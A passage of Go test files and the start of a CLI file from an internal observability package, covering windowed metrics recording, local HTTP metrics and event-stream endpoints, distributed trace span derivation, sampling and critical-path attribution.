	c := reg.Counter("load.retries")
	g := reg.Gauge("gateway.active_conns")

	c.Add(3)
	g.Set(7)
	r.Tick(10)

	// No movement: window still cut, counters empty, gauge carried.
	r.Tick(20)

	c.Add(2)
	g.Set(4)
	r.Tick(30)

	ws := r.Windows()
	if len(ws) != 3 {
		t.Fatalf("windows = %d, want 3", len(ws))
	}
	if ws[0].I != 0 || ws[0].T != 10 || ws[1].T != 20 || ws[2].T != 30 {
		t.Fatalf("window keys wrong: %+v", ws)
	}
	if len(ws[0].Counters) != 1 || ws[0].Counters[0].Value != 3 {
		t.Fatalf("window 0 counters = %+v, want load.retries=3", ws[0].Counters)
	}
	if len(ws[1].Counters) != 0 {
		t.Fatalf("quiet window has counter deltas: %+v", ws[1].Counters)
	}
	if len(ws[1].Gauges) != 1 || ws[1].Gauges[0].Value != 7 {
		t.Fatalf("window 1 gauges = %+v, want last-value 7", ws[1].Gauges)
	}
	if ws[2].Counters[0].Value != 2 || ws[2].Gauges[0].Value != 4 {
		t.Fatalf("window 2 = %+v, want delta 2 gauge 4", ws[2])
	}
}

func TestHistWindowQuantiles(t *testing.T) {
	reg, r := newArmedRecorder(t)
	h := reg.Histogram("load.record_rtt_ns", []int64{10, 100, 1000})

	for i := 0; i < 90; i++ {
		h.Observe(5) // bucket ≤10
	}
	for i := 0; i < 10; i++ {
		h.Observe(50) // bucket ≤100
	}
	r.Tick(1)

	// Second window sees only slow samples; cumulative quantiles would
	// still answer 10, the per-window merge must answer 1000.
	for i := 0; i < 5; i++ {
		h.Observe(500)
	}
	r.Tick(2)

	ws := r.Windows()
	h0 := ws[0].Histograms[0]
	if h0.Count != 100 || h0.P50 != 10 || h0.P95 != 100 || h0.P99 != 100 {
		t.Fatalf("window 0 hist = %+v, want count=100 p50=10 p95=100 p99=100", h0)
	}
	h1 := ws[1].Histograms[0]
	if h1.Count != 5 || h1.Sum != 2500 || h1.P50 != 1000 {
		t.Fatalf("window 1 hist = %+v, want count=5 sum=2500 p50=1000", h1)
	}
}

func TestWindowLookup(t *testing.T) {
	reg, r := newArmedRecorder(t)
	c := reg.Counter("load.retries")
	ok := reg.Counter("load.clients_ok")
	g := reg.Gauge("gateway.active_conns")
	h := reg.Histogram("load.record_rtt_ns", []int64{10, 100})

	// Warm-up gate: no windows yet.
	if _, got := r.WindowLookup("load.retries", "", 1); got {
		t.Fatal("lookup answered before any window was cut")
	}

	c.Add(1)
	ok.Add(10)
	g.Set(3)
	h.Observe(5)
	r.Tick(1)

	// Warm-up gate: 1 window < n=2.
	if _, got := r.WindowLookup("load.retries", "", 2); got {
		t.Fatal("lookup answered with fewer windows than requested")
	}

	c.Add(4)
	ok.Add(10)
	h.Observe(50)
	h.Observe(50)
	r.Tick(2)

	if v, got := r.WindowLookup("load.retries", "", 2); !got || v != 5 {
		t.Fatalf("counter over 2 windows = %v,%v, want 5,true", v, got)
	}
	if v, got := r.WindowLookup("load.retries", "value", 1); !got || v != 4 {
		t.Fatalf("counter over last window = %v,%v, want 4,true", v, got)
	}
	if v, got := r.WindowLookup("gateway.active_conns", "", 2); !got || v != 3 {
		t.Fatalf("gauge lookup = %v,%v, want 3,true", v, got)
	}
	if v, got := r.WindowLookup("load.record_rtt_ns", "count", 2); !got || v != 3 {
		t.Fatalf("hist count = %v,%v, want 3,true", v, got)
	}
	if v, got := r.WindowLookup("load.record_rtt_ns", "mean", 2); !got || v != 35 {
		t.Fatalf("hist mean = %v,%v, want 35,true", v, got)
	}
	if _, got := r.WindowLookup("never.seen", "", 1); got {
		t.Fatal("unseen metric answered")
	}
	if _, got := r.WindowLookup("load.record_rtt_ns", "bogus", 1); got {
		t.Fatal("bogus aggregation answered")
	}
}

func TestOnWindowCallback(t *testing.T) {
	reg := obs.NewRegistry()
	reg.SetEnabled(true)
	r := NewRecorder()
	var keys []int64
	r.Arm(reg, func(tt int64) {
		// The callback must be able to call WindowLookup (no deadlock).
		r.WindowLookup("x", "", 1)
		keys = append(keys, tt)
	})
	r.Tick(5)
	r.Tick(9)
	if !reflect.DeepEqual(keys, []int64{5, 9}) {
		t.Fatalf("callback keys = %v, want [5 9]", keys)
	}
}

func TestWriteReadRoundTrip(t *testing.T) {
	reg, r := newArmedRecorder(t)
	reg.Counter("a").Add(2)
	reg.Gauge("g").Set(1.5)
	reg.Histogram("h", []int64{10, 100}).Observe(7)
	r.Tick(1)
	reg.Counter("a").Add(1)
	r.Tick(2)

	path := filepath.Join(t.TempDir(), "series.jsonl")
	if err := r.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, r.Windows()) {
		t.Fatalf("round trip mismatch:\n got %+v\nwant %+v", got, r.Windows())
	}
}

// TestDeterministicJSONL feeds two independent recorder/registry pairs
// the same update sequence and requires byte-identical serialization —
// the property the CI determinism job byte-diffs across worker counts.
func TestDeterministicJSONL(t *testing.T) {
	run := func() []byte {
		reg := obs.NewRegistry()
		reg.SetEnabled(true)
		r := NewRecorder()
		r.Arm(reg, nil)
		// Registration order differs from name order on purpose.
		reg.Counter("z.late").Add(1)
		reg.Counter("a.early").Add(2)
		reg.Histogram("m.h", []int64{10}).Observe(3)
		r.Tick(100)
		reg.Counter("a.early").Add(1)
		r.Tick(200)
		var buf bytes.Buffer
		if err := r.WriteJSONL(bufio.NewWriter(&buf)); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	a, b := run(), run()
	if !bytes.Equal(a, b) {
		t.Fatalf("serialization not deterministic:\n%s\nvs\n%s", a, b)
	}
}

// TestDisarmedTickIsFree pins the armed-lazily contract for the tick
// site: a disarmed Tick must not allocate (it is one atomic load and a
// branch), so hot loops can call it unconditionally.
func TestDisarmedTickIsFree(t *testing.T) {
	r := NewRecorder()
	if n := testing.AllocsPerRun(1000, func() {
		r.Tick(42)
		Tick(42) // package-level form used by the fleet barrier
	}); n != 0 {
		t.Fatalf("disarmed Tick allocates %v times per call", n)
	}
}

func BenchmarkDisabledSeriesTick(b *testing.B) {
	r := NewRecorder()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r.Tick(int64(i))
	}
}

func BenchmarkArmedSeriesTick(b *testing.B) {
	reg := obs.NewRegistry()
	reg.SetEnabled(true)
	c := reg.Counter("bench.counter")
	reg.Histogram("bench.hist", obs.DurationBuckets)
	r := NewRecorder()
	r.Arm(reg, nil)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Add(1)
		r.Tick(int64(i))
	}
}
