package obs

import (
	"bufio"
	"encoding/json"
	"flag"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"repro/internal/obs/journal"
)

func TestServeEndpoints(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	r.Counter("hits").Add(3)
	tr := NewTracer(16)
	tr.SetEnabled(true)
	tr.Emit("test", "ping", 1)

	addr, shutdown, err := Serve("127.0.0.1:0", r, tr)
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown()

	get := func(path string) []byte {
		resp, err := http.Get("http://" + addr + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return body
	}

	var snap Snapshot
	if err := json.Unmarshal(get("/metrics"), &snap); err != nil {
		t.Fatalf("/metrics not JSON: %v", err)
	}
	if len(snap.Counters) != 1 || snap.Counters[0].Value != 3 {
		t.Fatalf("/metrics content wrong: %+v", snap)
	}
	var tf struct {
		Events []Event `json:"events"`
	}
	if err := json.Unmarshal(get("/trace"), &tf); err != nil {
		t.Fatalf("/trace not JSON: %v", err)
	}
	if len(tf.Events) != 1 {
		t.Fatalf("/trace events = %d, want 1", len(tf.Events))
	}
	get("/debug/vars")
	get("/debug/pprof/cmdline")
}

// readSSEFrame reads one "event:"/"data:" frame from an SSE stream.
func readSSEFrame(t *testing.T, br *bufio.Reader) (name, data string) {
	t.Helper()
	for {
		line, err := br.ReadString('\n')
		if err != nil {
			t.Fatalf("SSE read: %v", err)
		}
		line = strings.TrimRight(line, "\r\n")
		switch {
		case line == "":
			if name != "" || data != "" {
				return name, data
			}
		case strings.HasPrefix(line, "event: "):
			name = line[len("event: "):]
		case strings.HasPrefix(line, "data: "):
			data = line[len("data: "):]
		}
	}
}

func TestServeEventsStream(t *testing.T) {
	j := journal.New(64)
	j.SetMinLevel(journal.LevelDebug)
	j.SetEnabled(true)
	addr, shutdown, err := ServeConfig("127.0.0.1:0", ServerConfig{
		Journal:         j,
		Progress:        func() []byte { return []byte(`{"active":true,"done":3,"total":9}`) },
		MetricsInterval: time.Hour, // keep metric ticks out of the stream
	})
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown()

	resp, err := http.Get("http://" + addr + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("/events Content-Type = %q", ct)
	}
	br := bufio.NewReader(resp.Body)
	name, data := readSSEFrame(t, br)
	if name != "hello" || !strings.Contains(data, "metric_interval_ms") {
		t.Fatalf("first frame = %q %q, want hello frame", name, data)
	}

	j.Emit(7, journal.LevelWarn, "wep", "icv_failure", journal.I("frame_bytes", 42))
	name, data = readSSEFrame(t, br)
	if name != "journal" {
		t.Fatalf("second frame = %q %q, want journal", name, data)
	}
	e, err := journal.ParseLine([]byte(data))
	if err != nil {
		t.Fatalf("journal frame not parseable: %v\n%s", err, data)
	}
	if e.TSim != 7 || e.Layer != "wep" || e.Name != "icv_failure" || e.Get("frame_bytes") != "42" {
		t.Fatalf("journal frame content wrong: %s", data)
	}

	presp, err := http.Get("http://" + addr + "/progress")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(presp.Body)
	presp.Body.Close()
	if !strings.Contains(string(body), `"done":3`) {
		t.Fatalf("/progress = %s", body)
	}
}

// TestServeShutdownUnblocksStreams is the regression test for the
// shutdown hang: an open /events stream must not keep Shutdown (and its
// handler goroutine) alive past the 2s drain window.
func TestServeShutdownUnblocksStreams(t *testing.T) {
	before := runtime.NumGoroutine()
	j := journal.New(16)
	j.SetEnabled(true)
	addr, shutdown, err := ServeConfig("127.0.0.1:0", ServerConfig{
		Journal:         j,
		MetricsInterval: time.Hour,
	})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Get("http://" + addr + "/events")
	if err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(resp.Body)
	readSSEFrame(t, br) // hello: the stream is live

	start := time.Now()
	if err := shutdown(); err != nil {
		t.Fatalf("shutdown with open SSE stream: %v", err)
	}
	if d := time.Since(start); d > time.Second {
		t.Fatalf("shutdown took %v; the done channel should unblock streams instantly", d)
	}
	resp.Body.Close()

	// The handler, Serve loop and subscriber goroutines must all exit.
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= before {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("goroutines leaked after shutdown: before=%d after=%d", before, runtime.NumGoroutine())
}

func TestCLIWritesFiles(t *testing.T) {
	dir := t.TempDir()
	mpath := filepath.Join(dir, "metrics.json")
	tpath := filepath.Join(dir, "trace.csv")

	fs := flag.NewFlagSet("test", flag.ContinueOnError)
	c := BindFlags(fs)
	if err := fs.Parse([]string{"-metrics", mpath, "-trace", tpath}); err != nil {
		t.Fatal(err)
	}
	if err := c.Activate(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		Default.SetEnabled(false)
		DefaultTracer.SetEnabled(false)
	}()
	if !Enabled() || !TraceEnabled() {
		t.Fatal("Activate did not arm the default registry/tracer")
	}
	C("cli.test").Inc()
	Emit("cli", "test", 1)
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	blob, err := os.ReadFile(mpath)
	if err != nil {
		t.Fatalf("metrics file not written: %v", err)
	}
	var snap Snapshot
	if err := json.Unmarshal(blob, &snap); err != nil {
		t.Fatalf("metrics file not JSON: %v", err)
	}
	if _, err := os.Stat(tpath); err != nil {
		t.Fatalf("trace file not written: %v", err)
	}
	// Close again must be harmless.
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
}
