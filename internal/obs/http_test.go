package obs

import (
	"encoding/json"
	"flag"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"testing"
)

func TestServeEndpoints(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	r.Counter("hits").Add(3)
	tr := NewTracer(16)
	tr.SetEnabled(true)
	tr.Emit("test", "ping", 1)

	addr, shutdown, err := Serve("127.0.0.1:0", r, tr)
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown()

	get := func(path string) []byte {
		resp, err := http.Get("http://" + addr + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return body
	}

	var snap Snapshot
	if err := json.Unmarshal(get("/metrics"), &snap); err != nil {
		t.Fatalf("/metrics not JSON: %v", err)
	}
	if len(snap.Counters) != 1 || snap.Counters[0].Value != 3 {
		t.Fatalf("/metrics content wrong: %+v", snap)
	}
	var tf struct {
		Events []Event `json:"events"`
	}
	if err := json.Unmarshal(get("/trace"), &tf); err != nil {
		t.Fatalf("/trace not JSON: %v", err)
	}
	if len(tf.Events) != 1 {
		t.Fatalf("/trace events = %d, want 1", len(tf.Events))
	}
	get("/debug/vars")
	get("/debug/pprof/cmdline")
}

func TestCLIWritesFiles(t *testing.T) {
	dir := t.TempDir()
	mpath := filepath.Join(dir, "metrics.json")
	tpath := filepath.Join(dir, "trace.csv")

	fs := flag.NewFlagSet("test", flag.ContinueOnError)
	c := BindFlags(fs)
	if err := fs.Parse([]string{"-metrics", mpath, "-trace", tpath}); err != nil {
		t.Fatal(err)
	}
	if err := c.Activate(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		Default.SetEnabled(false)
		DefaultTracer.SetEnabled(false)
	}()
	if !Enabled() || !TraceEnabled() {
		t.Fatal("Activate did not arm the default registry/tracer")
	}
	C("cli.test").Inc()
	Emit("cli", "test", 1)
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	blob, err := os.ReadFile(mpath)
	if err != nil {
		t.Fatalf("metrics file not written: %v", err)
	}
	var snap Snapshot
	if err := json.Unmarshal(blob, &snap); err != nil {
		t.Fatalf("metrics file not JSON: %v", err)
	}
	if _, err := os.Stat(tpath); err != nil {
		t.Fatalf("trace file not written: %v", err)
	}
	// Close again must be harmless.
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
}
