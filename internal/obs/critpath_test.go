package obs

import "testing"

// synthTrace builds the canonical two-process session shape: a client
// root (0..100µs) with a handshake child (10..40), an echo child
// (50..90), and a server half recorded on its own clock (start 1000)
// hanging under the handshake span.
func synthTrace(trace uint64) []SpanRec {
	root := DeriveSpanID(trace, "load", "session", 0)
	hs := DeriveSpanID(root, "wtls", "handshake_client", 0)
	echo := DeriveSpanID(root, "load", "echo", 1)
	srv := DeriveSpanID(hs, "gateway", "session", 0)
	srvQ := DeriveSpanID(srv, "gateway", "server_queue", 0)
	return []SpanRec{
		{Trace: trace, Span: root, Parent: 0, Ord: 0, Proc: "msload", Layer: "load", Name: "session", StartUS: 0, DurUS: 100},
		{Trace: trace, Span: hs, Parent: root, Ord: 0, Proc: "msload", Layer: "wtls", Name: "handshake_client", StartUS: 10, DurUS: 30},
		{Trace: trace, Span: echo, Parent: root, Ord: 1, Proc: "msload", Layer: "load", Name: "echo", StartUS: 50, DurUS: 40},
		{Trace: trace, Span: srv, Parent: hs, Ord: 0, Proc: "msgateway", Layer: "gateway", Name: "session", StartUS: 1000, DurUS: 25},
		{Trace: trace, Span: srvQ, Parent: srv, Ord: 0, Proc: "msgateway", Layer: "gateway", Name: "server_queue", StartUS: 1000, DurUS: 5},
	}
}

func TestBuildTracesTreeAndSelfTime(t *testing.T) {
	trace := TraceID(1, 1)
	trees := BuildTraces(synthTrace(trace))
	if len(trees) != 1 {
		t.Fatalf("want 1 tree, got %d", len(trees))
	}
	tr := trees[0]
	if !tr.Merged {
		t.Fatal("two procs must mark the trace merged")
	}
	if tr.Spans != 5 || len(tr.Roots) != 1 {
		t.Fatalf("spans=%d roots=%d", tr.Spans, len(tr.Roots))
	}
	if tr.DurUS != 100 {
		t.Fatalf("root dur %d", tr.DurUS)
	}
	// Children 10..40 and 50..90 cover 70 of the root's 100µs.
	if tr.CoverUS != 70 {
		t.Fatalf("coverage union %d, want 70", tr.CoverUS)
	}
	if tr.Coverage < 0.69 || tr.Coverage > 0.71 {
		t.Fatalf("coverage %.3f, want 0.70", tr.Coverage)
	}
	root := tr.Roots[0]
	if root.SelfUS != 30 {
		t.Fatalf("root self %d, want 30", root.SelfUS)
	}
	// The handshake's only child is remote: excluded from self-time.
	hs := root.Children[0]
	if hs.Rec.Name != "handshake_client" || hs.SelfUS != 30 {
		t.Fatalf("handshake self %d (%s), want 30", hs.SelfUS, hs.Rec.Name)
	}
	// The remote subtree is aligned: its start snaps to the parent's, so
	// rendered start = 10 despite recorded 1000.
	srv := hs.Children[0]
	if srv.Rec.Proc != "msgateway" {
		t.Fatalf("expected remote child, got %+v", srv.Rec)
	}
	if got := srv.Rec.StartUS + srv.AlignUS; got != 10 {
		t.Fatalf("aligned server start %d, want 10", got)
	}
	// And its own child inherits the shift.
	q := srv.Children[0]
	if got := q.Rec.StartUS + q.AlignUS; got != 10 {
		t.Fatalf("aligned queue start %d, want 10", got)
	}
	// Server self-time computes on its own clock: 25 - 5 = 20.
	if srv.SelfUS != 20 {
		t.Fatalf("server self %d, want 20", srv.SelfUS)
	}
}

func TestBuildTracesOrdersAndOrphans(t *testing.T) {
	a, b := TraceID(2, 1), TraceID(2, 2)
	spans := append(synthTrace(a), synthTrace(b)...)
	// Make trace b shorter so ordering by duration is observable.
	for i := range spans {
		if spans[i].Trace == b && spans[i].Parent == 0 {
			spans[i].DurUS = 50
		}
	}
	// An orphan: parent never recorded — must surface as an extra root,
	// not vanish.
	orphan := SpanRec{Trace: a, Span: 0x999, Parent: 0x12345, Ord: 0, Proc: "msload", Layer: "load", Name: "stray", DurUS: 1}
	trees := BuildTraces(append(spans, orphan))
	if len(trees) != 2 {
		t.Fatalf("want 2 trees, got %d", len(trees))
	}
	if trees[0].DurUS < trees[1].DurUS {
		t.Fatal("trees not sorted by duration desc")
	}
	var ta *TraceTree
	for i := range trees {
		if trees[i].Trace == a {
			ta = &trees[i]
		}
	}
	if ta == nil || len(ta.Roots) != 2 {
		t.Fatalf("orphan did not become a secondary root: %+v", ta)
	}
	// The primary root must still be the parentless session span.
	if ta.Roots[0].Rec.Parent != 0 {
		t.Fatal("primary root selection broken")
	}
}

func TestCritTop(t *testing.T) {
	trace := TraceID(3, 1)
	top := CritTop(BuildTraces(synthTrace(trace)), 0)
	if len(top) == 0 {
		t.Fatal("empty critical path")
	}
	sum := map[string]int64{}
	for _, e := range top {
		sum[e.Key] = e.SelfUS
	}
	if sum["msload/load.session"] != 30 || sum["msload/wtls.handshake_client"] != 30 {
		t.Fatalf("unexpected attribution: %+v", sum)
	}
	if sum["msgateway/gateway.session"] != 20 || sum["msgateway/gateway.server_queue"] != 5 {
		t.Fatalf("server attribution wrong: %+v", sum)
	}
	for i := 1; i < len(top); i++ {
		if top[i-1].SelfUS < top[i].SelfUS {
			t.Fatal("critical path not descending")
		}
	}
	if capped := CritTop(BuildTraces(synthTrace(trace)), 2); len(capped) != 2 {
		t.Fatalf("topN cap ignored: %d rows", len(capped))
	}
}
