package obs

import (
	"bytes"
	"reflect"
	"strings"
	"testing"
)

func TestDeriveSpanIDDeterministic(t *testing.T) {
	a := DeriveSpanID(42, "load", "session", 0)
	b := DeriveSpanID(42, "load", "session", 0)
	if a != b {
		t.Fatalf("same inputs, different IDs: %x vs %x", a, b)
	}
	if a == 0 {
		t.Fatal("derived ID must be nonzero")
	}
	if DeriveSpanID(42, "load", "session", 1) == a {
		t.Fatal("ordinal must change the ID")
	}
	if DeriveSpanID(42, "load", "attempt", 0) == a {
		t.Fatal("name must change the ID")
	}
	if DeriveSpanID(43, "load", "session", 0) == a {
		t.Fatal("parent must change the ID")
	}
	// The layer/name separator must keep ("ab","c") and ("a","bc") apart.
	if DeriveSpanID(1, "ab", "c", 0) == DeriveSpanID(1, "a", "bc", 0) {
		t.Fatal("layer/name boundary ambiguous")
	}
}

func TestTraceIDNonzeroAndStable(t *testing.T) {
	if TraceID(7, 3) != TraceID(7, 3) {
		t.Fatal("TraceID not deterministic")
	}
	if TraceID(7, 3) == TraceID(7, 4) {
		t.Fatal("TraceID ignores session")
	}
	if TraceIDFromBytes([]byte{0, 0, 0, 0, 0, 0, 0, 0}) == 0 {
		t.Fatal("TraceIDFromBytes returned reserved zero")
	}
	if TraceIDFromBytes([]byte{1, 2, 3}) != TraceIDFromBytes([]byte{1, 2, 3}) {
		t.Fatal("TraceIDFromBytes not deterministic")
	}
}

func TestDTracerDisarmedIsNil(t *testing.T) {
	tr := NewDTracer(64)
	if sp := tr.Root(TraceID(1, 1), "load", "session"); sp != nil {
		t.Fatal("disarmed tracer must hand out nil spans")
	}
	// Every method on the nil span must be a safe no-op.
	var sp *DSpan
	sp.End()
	sp.EndAt(5)
	sp.SetN(1)
	sp.Event("l", "n", 0, 1, 0)
	if c := sp.Child("l", "n"); c != nil {
		t.Fatal("nil span's child must be nil")
	}
	if sp.TraceID() != 0 || sp.ID() != 0 {
		t.Fatal("nil span IDs must be zero")
	}
}

func TestDTracerHierarchyAndSortedExport(t *testing.T) {
	tr := NewDTracer(64)
	tr.SetEnabled(true)
	tr.SetProc("test")
	trace := TraceID(9, 1)
	root := tr.Root(trace, "load", "session")
	if root == nil {
		t.Fatal("armed tracer returned nil root")
	}
	a := root.Child("load", "attempt")
	a.Event("load", "dial", 1, 2, 0)
	a.End()
	b := root.Child("load", "attempt")
	b.End()
	root.End()

	spans := tr.Spans()
	if len(spans) != 4 {
		t.Fatalf("want 4 spans, got %d", len(spans))
	}
	// Two attempts must have distinct IDs via their ordinals, and both
	// must point at the root.
	if a.ID() == b.ID() {
		t.Fatal("sibling spans share an ID")
	}
	kids := 0
	for _, r := range spans {
		if r.Proc != "test" {
			t.Fatalf("span missing proc stamp: %+v", r)
		}
		if r.Trace != trace {
			t.Fatalf("span on wrong trace: %+v", r)
		}
		if r.Parent == root.ID() {
			kids++
		}
	}
	if kids != 2 {
		t.Fatalf("want 2 children of root, got %d", kids)
	}
	// Export order is (trace, span, parent, ord), not record order.
	for i := 1; i < len(spans); i++ {
		p, q := spans[i-1], spans[i]
		if p.Trace > q.Trace || (p.Trace == q.Trace && p.Span > q.Span) {
			t.Fatalf("export not sorted at %d: %x then %x", i, p.Span, q.Span)
		}
	}
}

func TestDTracerSampling(t *testing.T) {
	tr := NewDTracer(64)
	tr.SetEnabled(true)
	tr.SetSampleN(4)
	kept := 0
	for s := int64(0); s < 64; s++ {
		if tr.Keep(TraceID(1, s)) {
			kept++
		}
	}
	if kept == 0 || kept == 64 {
		t.Fatalf("1/4 sampling kept %d of 64", kept)
	}
	// The decision is a pure function of the trace ID: a second tracer
	// with the same rate agrees on every trace.
	tr2 := NewDTracer(64)
	tr2.SetEnabled(true)
	tr2.SetSampleN(4)
	for s := int64(0); s < 64; s++ {
		id := TraceID(1, s)
		if tr.Keep(id) != tr2.Keep(id) {
			t.Fatalf("samplers disagree on trace %x", id)
		}
	}
	// Unsampled traces yield nil roots; sampled ones record.
	for s := int64(0); s < 64; s++ {
		id := TraceID(1, s)
		sp := tr.Root(id, "l", "n")
		if (sp != nil) != tr.Keep(id) {
			t.Fatalf("Root/Keep disagree on trace %x", id)
		}
		sp.End()
	}
	if got := len(tr.Spans()); got != kept {
		t.Fatalf("recorded %d spans, want %d", got, kept)
	}
}

func TestDTracerCanonicalZeroesTimes(t *testing.T) {
	tr := NewDTracer(64)
	tr.SetEnabled(true)
	tr.SetCanonical(true)
	if tr.NowUS() != 0 {
		t.Fatal("canonical clock must read 0")
	}
	sp := tr.RootAt(TraceID(2, 2), 0, "l", "n", 123)
	sp.Event("l", "leaf", 7, 9, 3)
	sp.EndAt(999)
	for _, r := range tr.Spans() {
		if r.StartUS != 0 || r.DurUS != 0 {
			t.Fatalf("canonical span kept timings: %+v", r)
		}
		if r.Name == "leaf" && r.N != 3 {
			t.Fatalf("canonical span lost N: %+v", r)
		}
	}
}

func TestDTraceJSONLRoundTrip(t *testing.T) {
	tr := NewDTracer(64)
	tr.SetEnabled(true)
	tr.SetProc("p1")
	root := tr.RootAt(TraceID(3, 3), 0x1234, "load", "session", 10)
	root.Child("wtls", "handshake_client").EndAt(20)
	root.SetN(42)
	root.EndAt(30)

	var buf bytes.Buffer
	if err := tr.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	got, skipped, err := ReadSpans(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if skipped != 0 {
		t.Fatalf("skipped %d lines of our own output", skipped)
	}
	if !reflect.DeepEqual(got, tr.Spans()) {
		t.Fatalf("round trip mismatch:\n got %+v\nwant %+v", got, tr.Spans())
	}
}

func TestReadSpansSkipsGarbage(t *testing.T) {
	in := strings.Join([]string{
		`{"trace":"00000000000000ff","span":"0000000000000001","ord":0,"layer":"l","name":"n","start_us":0,"dur_us":1}`,
		`not json`,
		`{"trace":"zzzz","span":"0000000000000002","ord":0,"layer":"l","name":"n","start_us":0,"dur_us":1}`,
		``,
	}, "\n")
	got, skipped, err := ReadSpans(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || skipped != 2 {
		t.Fatalf("got %d spans, %d skipped; want 1 and 2", len(got), skipped)
	}
}

func TestDTracerRingDropCounting(t *testing.T) {
	Default.SetEnabled(true) // the drop counter is registry-gated
	defer Default.SetEnabled(false)
	tr := NewDTracer(16) // minimum capacity
	tr.SetEnabled(true)
	before := mTraceDropped.Value()
	root := tr.Root(TraceID(4, 4), "l", "root")
	for i := 0; i < 40; i++ {
		root.Event("l", "e", int64(i), 1, 0)
	}
	root.End()
	st := tr.Stats()
	if st.Recorded != 41 {
		t.Fatalf("recorded %d, want 41", st.Recorded)
	}
	if st.Dropped != 41-16 {
		t.Fatalf("dropped %d, want %d", st.Dropped, 41-16)
	}
	if got := mTraceDropped.Value() - before; got != int64(st.Dropped) {
		t.Fatalf("obs.trace_dropped advanced by %d, want %d", got, st.Dropped)
	}
	if len(tr.Spans()) != 16 {
		t.Fatalf("ring holds %d spans, want 16", len(tr.Spans()))
	}
}

// TestTraceCountersInProm pins satellite behavior: the span/drop
// counters surface through the Prometheus exposition like any other
// registry counter.
func TestTraceCountersInProm(t *testing.T) {
	Default.SetEnabled(true)
	defer Default.SetEnabled(false)
	mTraceSpans.Inc()
	mTraceDropped.Inc()
	snap := Default.Snapshot()
	var buf bytes.Buffer
	if err := WriteProm(&buf, &snap); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{"obs_trace_spans", "obs_trace_dropped"} {
		if !strings.Contains(out, want) {
			t.Fatalf("prom exposition missing %s:\n%s", want, out)
		}
	}
}

func TestHistogramExemplars(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	h := r.Histogram("t.lat", []int64{10, 100})
	h.Observe(5) // no exemplar
	snap := r.Snapshot()
	if snap.Histograms[0].Exemplars != nil {
		t.Fatal("exemplars present without any ObserveEx")
	}
	h.ObserveEx(50, 0xabcd) // second bucket
	h.ObserveEx(7, 0)       // zero trace: counted, no exemplar
	snap = r.Snapshot()
	ex := snap.Histograms[0].Exemplars
	if ex == nil {
		t.Fatal("exemplars missing after ObserveEx")
	}
	if ex[0] != "" || ex[1] != TraceHex(0xabcd) || ex[2] != "" {
		t.Fatalf("unexpected exemplars %q", ex)
	}
	if snap.Histograms[0].Count != 3 {
		t.Fatalf("count %d, want 3", snap.Histograms[0].Count)
	}
}

// TestDisarmedDSpanZeroAllocs pins the disarmed fast path: creating and
// ending spans against a disarmed tracer allocates nothing.
func TestDisarmedDSpanZeroAllocs(t *testing.T) {
	tr := NewDTracer(64)
	trace := TraceID(5, 5)
	allocs := testing.AllocsPerRun(1000, func() {
		sp := tr.Root(trace, "load", "session")
		c := sp.Child("load", "attempt")
		c.Event("load", "dial", 0, 1, 0)
		c.End()
		sp.End()
	})
	if allocs != 0 {
		t.Fatalf("disarmed span path allocates %v/op, want 0", allocs)
	}
}

// BenchmarkDisarmedDSpan is the CI-enforced cost of tracing you did not
// ask for: one atomic load per site, zero allocations.
func BenchmarkDisarmedDSpan(b *testing.B) {
	tr := NewDTracer(64)
	trace := TraceID(6, 6)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sp := tr.Root(trace, "load", "session")
		sp.Event("load", "dial", 0, 1, 0)
		sp.End()
	}
}
