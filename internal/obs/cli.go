package obs

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
	"repro/internal/obs/slo"
)

// ErrSLOStrict is returned by Close when -slo-strict is set and a
// crit-severity SLO rule fired during the run. Cmds translate it into a
// distinct nonzero exit code (see Finish).
var ErrSLOStrict = errors.New("critical SLO rule fired (strict mode)")

// CLI binds the shared observability flags every cmd exposes:
//
//	-metrics <file>   arm the default registry; write its JSON snapshot
//	                  to <file> on Close
